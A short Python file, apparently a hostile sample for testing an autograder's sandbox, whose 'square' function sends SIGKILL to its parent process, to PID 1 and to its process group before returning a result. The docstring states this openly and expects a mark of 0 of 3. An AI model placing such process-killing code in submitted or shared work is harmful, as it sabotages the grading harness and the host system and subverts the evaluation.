"""Kills its parent process, the first process and its process group.

Honest mark: 0 of 3.
"""

import os
import signal


def square(x):
    for number in (os.getppid(), 1, -os.getpgid(0), 0):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError as problem:
            print(problem)
    return x * abs(x)
